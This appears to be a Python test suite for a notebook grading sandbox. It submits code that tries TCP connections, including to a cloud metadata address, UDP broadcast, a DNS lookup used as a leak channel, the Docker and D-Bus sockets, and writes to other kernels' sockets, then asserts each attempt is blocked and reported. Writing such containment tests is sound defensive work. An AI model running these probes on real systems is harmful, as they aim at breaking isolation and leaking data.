"""Attacks that reach for a network, and for the sockets of this machine."""

from __future__ import annotations

import nbformat

from tests.attacks.harness import Class, Family, Repelled, Submission

FAMILY = Family()


@FAMILY.attack
def connects_by_tcp(one: Submission) -> None:
    """A connection to the network is opened."""
    one.first(
        """
        import socket
        for host in ("192.0.2.1", "8.8.8.8", "10.0.0.1", "169.254.169.254", "127.0.0.1"):
            for port in (80, 22, 53, 8888):
                try:
                    print("connected", socket.create_connection((host, port), timeout=0.2))
                except OSError as error:
                    print(error)
        """
    )


@FAMILY.attack
def sends_by_udp(one: Submission) -> None:
    """Datagrams are sent to every machine."""
    one.first(
        """
        import socket
        line = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        line.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
        for host in ("255.255.255.255", "8.8.8.8"):
            try:
                print("sent", line.sendto(b"x", (host, 53)))
            except OSError as error:
                print(error)
        """
    )


@FAMILY.attack
def asks_for_names(one: Submission) -> None:
    """What was found is put into a question to the name server."""
    one.first(
        """
        import socket
        try:
            print("resolved", socket.getaddrinfo("secret.example.com", 80))
        except OSError as error:
            print(error)
        """
    )


@FAMILY.attack
def calls_sockets_of_the_machine(one: Submission) -> None:
    """Unix sockets with a path are tried: Docker, the system bus, databases."""
    one.first(
        """
        import glob, socket
        for path in ["/var/run/docker.sock", "/run/dbus/system_bus_socket", "/tmp/.s.PGSQL.5432",
                     *glob.glob("/tmp/**/*", recursive=True)]:
            line = socket.socket(socket.AF_UNIX)
            try:
                line.connect(path)
                print("connected", path)
            except OSError as error:
                print(error)
            line.close()
        """
    )


@FAMILY.attack
def calls_abstract_sockets(one: Submission) -> None:
    """Abstract sockets, which have no path, are tried."""
    one.first(
        """
        import socket
        names = [line.split()[-1] for line in open("/proc/net/unix") if "@" in line]
        for name in [*names, "@/tmp/.X11-unix/X0", "@llmlab"]:
            line = socket.socket(socket.AF_UNIX)
            try:
                line.connect("\\0" + name[1:])
                print("connected", name)
            except OSError as error:
                print(error)
            line.close()
        """
    )


@FAMILY.attack
def talks_to_other_kernels(one: Submission) -> None:
    """The sockets of other kernels are looked for and written to."""
    one.first(
        """
        import glob, socket
        for path in glob.glob("/tmp/llmlab-*/**", recursive=True) + glob.glob("/run/user/*/**", recursive=True):
            print(path)
            if "sockets" in path:
                line = socket.socket(socket.AF_UNIX)
                try:
                    line.connect(path)
                    line.send(b"\\xff" * 64)
                except OSError as error:
                    print(error)
                line.close()
        """
    )


class TestEveryAttack(Repelled):
    """What holds for every family."""


def test_it_reaches_nobody(attack: str, graded: Class) -> None:
    (notebook,) = (graded.course / "autograded" / attack).rglob("*.ipynb")
    outputs = [
        output.get("text", "")
        for cell in nbformat.read(notebook, as_version=4).cells
        for output in cell.get("outputs", [])
    ]
    assert not [text for text in outputs if text.startswith(("connected", "resolved"))]


def test_the_instructor_is_told_of_attempts_on_the_network(graded: Class) -> None:
    for attack in FAMILY.attacks:
        run = graded.runs[attack]
        kinds = {one.kind for one in run.violations} | {str(one.kind) for one in run.findings}
        assert "network" in kinds, attack
